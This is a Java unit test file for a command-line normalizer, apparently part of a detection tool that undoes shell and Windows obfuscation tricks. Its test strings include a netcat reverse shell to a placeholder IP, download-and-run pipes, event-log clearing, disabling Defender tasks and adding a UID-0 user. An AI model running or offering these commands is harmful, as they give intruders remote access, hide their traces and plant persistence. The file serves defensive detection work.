package dev.vigil.normalize;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class CommandLineNormalizerTest {

    @Test
    void readsEachPlatformsEscapes() {
        assertThat(CommandLineNormalizer.normalize("c^m^d /c \"who\"ami", true)).isEqualTo("cmd /c whoami");
        assertThat(CommandLineNormalizer.normalize("w\\hoami  ${IFS}-a", false)).isEqualTo("whoami -a");
    }

    @Test
    void aWindowsEscapedQuoteGoesWithItsBackslashOnlyWhereQuotesAreEscaped() {
        // powershell -c "..." launched from cmd writes its inner quotes as \"
        assertThat(CommandLineNormalizer.readings("powershell -c \"$c = \\\"wevtutil\\\"; & $c cl Security\"", true, false))
                .contains("powershell -c $c = wevtutil; & $c cl security", "wevtutil cl security");
        // the line's first character a quote: a quoted program path before the escaped ones
        assertThat(CommandLineNormalizer.readings("\"C:\\x\\powershell.exe\" -c \"$c = \\\"wevtutil\\\"; & $c cl x\"", true, false))
                .contains("c:\\x\\powershell.exe -c $c = wevtutil; & $c cl x", "wevtutil cl x");
        // a folder path that ends at its closing quote keeps its last backslash
        assertThat(CommandLineNormalizer.normalize("Disable-ScheduledTask -TaskPath \"\\Microsoft\\Windows\\Defender\\\" -TaskName x", true))
                .isEqualTo("disable-scheduledtask -taskpath \\microsoft\\windows\\defender\\ -taskname x");
    }

    @Test
    void programsThatOnlyRunTheNextCommandAreTakenOutInAReadingOfTheirOwn() {
        assertThat(CommandLineNormalizer.readings("sudo $(echo d2dldA== | base64 -d) -qO- x.example/b", false, false))
                .contains("$(echo d2dlda== | base64 -d) -qo- x.example/b");
        assertThat(CommandLineNormalizer.readings("timeout 60 nohup ./agent -server http://x:8888 &", false, false))
                .contains("./agent -server http://x:8888 &");
        assertThat(CommandLineNormalizer.readings("sudo -u www-data env -i PATH=/bin X=1 nice -n 5 id; /usr/bin/sudo -E ls", false, false))
                .contains("id; ls");
        // an option that takes no value does not swallow the command; a lookup is no runner
        assertThat(CommandLineNormalizer.readings("sudo -H pip install x", false, false)).contains("pip install x");
        assertThat(CommandLineNormalizer.readings("command -v nc", false, false)).containsExactly("command -v nc");
        // a runner's name inside a word or an argument is not one
        assertThat(CommandLineNormalizer.readings("echo sudoers timeout=5 nohup.out", false, false)).hasSize(1);
        assertThat(CommandLineNormalizer.readings("timeout --help; sudo -l", false, false)).hasSize(1);
        // a hostile run of options is read word by word, without exhausting the stack
        String hostile = "sudo " + "-a ".repeat(20_000) + "id";
        assertThat(CommandLineNormalizer.readings(hostile, false, false)).hasSizeLessThanOrEqualTo(2);
        assertThat(CommandLineNormalizer.readings(";sudo ".repeat(10_000) + "id", false, false)).isNotEmpty();
        assertThat(CommandLineNormalizer.readings("env " + "a=b ".repeat(15_000), false, false)).isNotEmpty();
    }

    @Test
    void theCasedReadingUndoesTheSameTricksAndKeepsTheCase() {
        assertThat(CommandLineNormalizer.normalizeCased("u''seradd  -o -u 0 \"-G\" Sudo", false))
                .isEqualTo("useradd -o -u 0 -G Sudo");
        assertThat(CommandLineNormalizer.normalizeCased("T\\ar${IFS}-P x", false)).isEqualTo("Tar -P x");
        assertThat(CommandLineNormalizer.normalizeCased("u''seradd -O", false).toLowerCase(java.util.Locale.ROOT))
                .isEqualTo(CommandLineNormalizer.normalize("u''seradd -O", false));
        // Windows options ignore case: the line reads as the folded one
        assertThat(CommandLineNormalizer.normalizeCased("C^MD /C \"Dir\"", true)).isEqualTo("cmd /c dir");
    }

    @Test
    void aGroupsOpeningBraceIsDroppedWhereACommandStarts() {
        assertThat(CommandLineNormalizer.normalize("{ useradd -o -u 0 x; }", false)).isEqualTo("useradd -o -u 0 x; }");
        assertThat(CommandLineNormalizer.normalize("id && {  passwd -l admin; }", false)).isEqualTo("id && passwd -l admin; }");
        // brace expansion, a function's body, a quoted or find's braces stay
        assertThat(CommandLineNormalizer.normalize("{cat,/etc/passwd}", false)).isEqualTo("{cat,/etc/passwd}");
        assertThat(CommandLineNormalizer.normalize("f() { id; }", false)).isEqualTo("f() { id; }");
        assertThat(CommandLineNormalizer.normalize("echo '{ x; }'", false)).isEqualTo("echo { x; }");
        assertThat(CommandLineNormalizer.normalize("find . -exec rm {} +", false)).isEqualTo("find . -exec rm {} +");
    }

    @Test
    void aProgramLookedUpWhereItIsNamedReadsAsItsName() {
        assertThat(CommandLineNormalizer.normalize("$(which nc) -e /bin/sh h 1", false)).isEqualTo("nc -e /bin/sh h 1");
        assertThat(CommandLineNormalizer.normalize("`command -v IPtables` -F", false)).isEqualTo("iptables -f");
        assertThat(CommandLineNormalizer.normalize("echo $(which python3 pip)", false)).isEqualTo("echo $(which python3 pip)");
        assertThat(CommandLineNormalizer.normalize("`which", false)).isEqualTo("`which");
    }

    @Test
    void aCommandLineSeenBeforeIsReadWithTheRulesAskedForNow() {
        // the same text read as Windows and as POSIX differs (carets, backslashes); the table of
        // recent command lines must not hand one platform's reading to the other
        String raw = "c^m^d /c \\\"x\\\"";
        for (int i = 0; i < 3; i++) {
            assertThat(CommandLineNormalizer.normalize(raw, true)).isEqualTo("cmd /c x");
            assertThat(CommandLineNormalizer.normalize(new String(raw), false)).isEqualTo("c^m^d /c \"x\"");
        }
    }

    @Test
    void aUrlSaysNothingOfThePlatform() {
        // without an executable path the platform is guessed from the line: a URL's slashes come
        // before the Windows path in a download, and must not make it a POSIX line whose
        // backslashes are escapes
        assertThat(CommandLineNormalizer.isWindows(null,
                "certutil -urlcache -f http://files.example/a/b.exe C:\\Users\\Public\\b.exe")).isTrue();
        assertThat(CommandLineNormalizer.isWindows(null,
                "powershell \"'x' | Out-File $env:USERPROFILE\\Documents\\a.ps1; iwr https://h.example/p/q\"")).isTrue();
        assertThat(CommandLineNormalizer.isWindows(null, "curl -s http://files.example/a/b.sh -o /tmp/b.sh")).isFalse();
        assertThat(CommandLineNormalizer.isWindows(null, "wget http://files.example/a/b.sh; sh b.sh")).isFalse();
        assertThat(CommandLineNormalizer.isWindows(null, "curl http://")).isFalse();
    }

    @Test
    void longCommandLinesAreReadInFull() {
        String raw = "echo " + "A".repeat(5000) + " \"B\"";
        assertThat(CommandLineNormalizer.normalize(raw, false)).isEqualTo("echo " + "a".repeat(5000) + " b");
        assertThat(CommandLineNormalizer.normalize(raw, false)).isEqualTo("echo " + "a".repeat(5000) + " b");
    }

    @Test
    void emptySubstitutionsTranslatableStringsAndEscapedLettersReadAsTheWord() {
        // spellings written from the bash manual (QUOTING, Command Substitution)
        assertThat(CommandLineNormalizer.normalize("wh$()oa``mi", false)).isEqualTo("whoami");
        assertThat(CommandLineNormalizer.normalize("echo $\"c\" \"d$\"", false)).isEqualTo("echo c d$");
        assertThat(CommandLineNormalizer.normalize("ho\\tst\\bame", false)).isEqualTo("hotstbame");
        // inside quotes \\t is a logged tab
        assertThat(CommandLineNormalizer.normalize("grep -v '^$' f | wc -l", false)).isEqualTo("grep -v ^$ f | wc -l");
        assertThat(CommandLineNormalizer.normalize("printf 'a\\tb'", false)).isEqualTo("printf a b");
    }

    @Test
    void absoluteGlobsOfKnownProgramsReadAsTheProgram() {
        assertThat(CommandLineNormalizer.normalize("/???/b??/un?me -a", false)).isEqualTo("/usr/bin/uname -a");
        assertThat(CommandLineNormalizer.normalize("ls /var/log/*.log", false)).isEqualTo("ls /var/log/*.log");
    }

    @Test
    void aMultiCallBinaryBeforeItsAppletIsReadAgainAsTheApplet() {
        assertThat(CommandLineNormalizer.readings("bash -i 2>&1 | busybox nc 203.0.113.7 4444", false, false))
                .containsExactly("bash -i 2>&1 | busybox nc 203.0.113.7 4444", "bash -i 2>&1 | nc 203.0.113.7 4444");
        assertThat(CommandLineNormalizer.readings("/bin/busybox wget -qO- http://203.0.113.7/a | sh", false, false))
                .containsExactly("/bin/busybox wget -qo- http://203.0.113.7/a | sh", "wget -qo- http://203.0.113.7/a | sh");
        assertThat(CommandLineNormalizer.posixCased("toybox nc -L /bin/sh", 1)).isEqualTo("nc -L /bin/sh");
        // a file or word that only holds the name is not the binary running an applet
        assertThat(CommandLineNormalizer.readings("apt-get install busybox", false, false)).hasSize(1);
        assertThat(CommandLineNormalizer.readings("cp busybox.tar /tmp", false, false)).hasSize(1);
        assertThat(CommandLineNormalizer.readings("busybox", false, false)).hasSize(1);
    }
}
